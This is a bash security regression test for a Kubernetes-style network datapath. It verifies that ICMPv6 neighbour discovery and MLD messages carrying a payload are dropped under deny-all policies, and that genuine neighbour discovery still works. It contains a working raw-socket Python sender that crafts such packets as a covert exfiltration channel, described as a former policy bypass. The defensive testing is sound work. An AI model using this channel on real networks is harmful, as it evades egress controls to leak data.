#!/usr/bin/env bash
# tests/security/icmpv6_exfil.sh - the attack: a pod under a deny-all
# egress policy sends ICMPv6 messages of the neighbour discovery and MLD
# types (135 "neighbour solicitation", 131 "multicast listener report"),
# each carrying a payload, to the global addresses of pods under a
# deny-all ingress policy, on its own node and on another, and to an
# address outside the cluster. The datapath used to let every ICMPv6
# message of types 130-137 and 143 through to the node's stack by its type
# alone, which forwarded them: no policy check, no drop, no flow event.
# The promise: ND / MLD is only what stays on the link (hop limit 255 for
# ND, 1 for MLD, a link-local or multicast destination, or the gateway);
# everything else of those types is ICMPv6 like any other: the deny-all
# policies drop it (drop:policy-denied, a drop event), nothing arrives.
# Genuine neighbour discovery still works: the pods keep their IPv6
# connectivity (fresh neighbour entries resolved through the gateway).
. "$top_srcdir/tests/lib/common.sh"
MN_UNDERLAY_PREFIX6="fd00:fc:$(printf %x $(($$ % 65536)))::"
. "$top_srcdir/tests/lib/multinode.sh"

mn_cluster_up 2 kvstore-etcd ipam-cluster-pool ipam-api endpoint datapath nodes policy
command -v ping >/dev/null || skip_or_fail "ping is not installed (iputils-ping)"
for n in n1 n2; do
	mn_agent_start "$n" "$WORK/mods" --set ipam-cluster-pool.cluster-pool-ipv4-cidr=10.205.0.0/16 \
		--set ipam-cluster-pool.cluster-pool-ipv6-cidr=fd00:205::/104 --set nodes.retry=300ms ||
		{ fail "the agent of $n starts"; finish; }
done
for n in n1 n2; do check "$n routes the other node" wait_for 15 mn_routes_all "$n"; done
OUTSIDE6="${MN_UNDERLAY_PREFIX6}1" # the underlay's own address: not the cluster's
for n in n1 n2; do
	ip netns exec "$(mn_ns "$n")" ip -6 route replace default via "$OUTSIDE6" dev eth0
done

mn_pod_add n1 atk atk || { fail "the attacker pod on n1"; finish; }
mn_pod_add n1 v1 victim || { fail "a victim pod on n1"; finish; }
mn_pod_add n2 v2 victim || { fail "a victim pod on n2"; finish; }
mn_pod_add n1 c1 clear || { fail "a pod without policy on n1"; finish; }
mn_pod_add n2 c2 clear || { fail "a pod without policy on n2"; finish; }
for p in atk v1 v2 c1 c2; do
	[ -n "${MN_POD_IP6[$p]}" ] || { fail "pod $p has an IPv6 address"; finish; }
done

# deny-all egress for namespace atk, deny-all ingress for namespace victim, on both nodes
for n in n1 n2; do
	for spec in 'atk deny-egress Egress' 'victim deny-ingress Ingress'; do
		read -r ns name type <<<"$spec"
		printf '{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "%s", "namespace": "%s"}, "spec": {"podSelector": {}, "policyTypes": ["%s"]}}\n' \
			"$name" "$ns" "$type" >"$WORK/$name.json"
		out=$("$CLI" -s "${MN_DIR[$n]}/fibril.sock" policy import "$WORK/$name.json" 2>&1)
		check "$n imports $name" contains "$out" "Revision:"
	done
done

# receivers: every ICMPv6 message of type 131 or 135 whose payload carries
# the marker is logged, in v1, v2 and the outside (the underlay namespace)
MARK=exfil$$
RECV=()
mn_test_cleanup() { local p; for p in "${RECV[@]}"; do kill "$p" 2>/dev/null; done; }
recv_start() { # recv_start NETNS LOG
	: >"$2"
	ip netns exec "$1" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
open(sys.argv[2] + ".ready", "w").close()
with open(sys.argv[2], "a") as f:
    while True:
        data, peer = s.recvfrom(4096)
        if data[0] in (131, 135) and sys.argv[1].encode() in data:
            f.write("%d %s\n" % (data[0], peer[0]))
            f.flush()
' "$MARK" "$2" &
	RECV+=($!)
	wait_for 5 test -e "$2.ready"
}
recv_start "$(mn_pod_ns v1)" "$WORK/v1.log"
recv_start "$(mn_pod_ns v2)" "$WORK/v2.log"
recv_start "$MN_UNDERLAY_NS" "$WORK/outside.log"

# exfil TYPE HOPLIMIT DST... : the attacker sends a message of TYPE with
# the marker as payload to each DST (the kernel's checksum, routing and
# neighbour resolution: a raw ICMPv6 socket)
exfil() {
	ip netns exec "$(mn_pod_ns atk)" python3 -c '
import socket, sys
t, hl, mark = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hl)
for dst in sys.argv[4:]:
    # type, code, checksum, reserved; the target (135) or group (131) address; the payload
    body = bytes([t, 0, 0, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, dst) + mark * 8
    s.sendto(body, (dst, 0))
' "$@"
}
drops() { # drops NODE : policy drops of ICMPv6 in the drop events, from atk's address
	mn_json "$1" "/v1/datapath/events?type=drop" "sum(1 for e in j['events'] if e['reason'] == 'drop:policy-denied' and e.get('proto') == 58 and e.get('src') == '${MN_POD_IP6[atk]}')"
}
TARGETS=("${MN_POD_IP6[v1]}" "${MN_POD_IP6[v2]}" "$OUTSIDE6")
exfil 135 255 "$MARK" "${TARGETS[@]}"
exfil 131 64 "$MARK" "${TARGETS[@]}"
exfil 131 1 "$MARK" "${TARGETS[@]}"
# each message is dropped at once in the attacker's veth program, or is
# logged by its receiver within this wait
six_drops() { [ "$(drops n1)" -ge 6 ]; }
check "the attacker's messages are policy drops with drop events on n1" wait_for 5 six_drops ||
	echo "  drop events: $(drops n1)"
check "no type 135 / 131 with a payload reaches the victim on the attacker's node" \
	test ! -s "$WORK/v1.log"
check "no type 135 / 131 with a payload reaches the victim on the other node" \
	test ! -s "$WORK/v2.log"
check "no type 135 / 131 with a payload reaches the address outside" \
	test ! -s "$WORK/outside.log"
for f in v1 v2 outside; do [ -s "$WORK/$f.log" ] && sed "s/^/  $f got: /" "$WORK/$f.log"; done

# ---- genuine neighbour discovery ---------------------------------------------------------
# fresh neighbour entries everywhere: a ping has to resolve the gateway
# (the pod), the pod (the node) and the other node again
for p in c1 c2 atk v1; do ip -n "$(mn_pod_ns "$p")" -6 neigh flush all; done
for n in n1 n2; do ip -n "$(mn_ns "$n")" -6 neigh flush all; done
ping6_ok() { ip netns exec "$(mn_pod_ns "$1")" ping -6 -c 1 -W 1 "$2" >/dev/null 2>&1; }
check "a pod without policy pings another node's pod over IPv6 (ND resolved again)" \
	wait_for 10 ping6_ok c1 "${MN_POD_IP6[c2]}"
check "  and back" wait_for 10 ping6_ok c2 "${MN_POD_IP6[c1]}"
check "the attacker pod (deny-all egress) still resolves its gateway" \
	bash -c 'ip netns exec "$1" ping -6 -c 1 -W 1 "$2" >/dev/null 2>&1; ip -n "$1" -6 neigh show | grep -q lladdr' _ \
	"$(mn_pod_ns atk)" "${MN_POD_IP6[c1]}"
finish
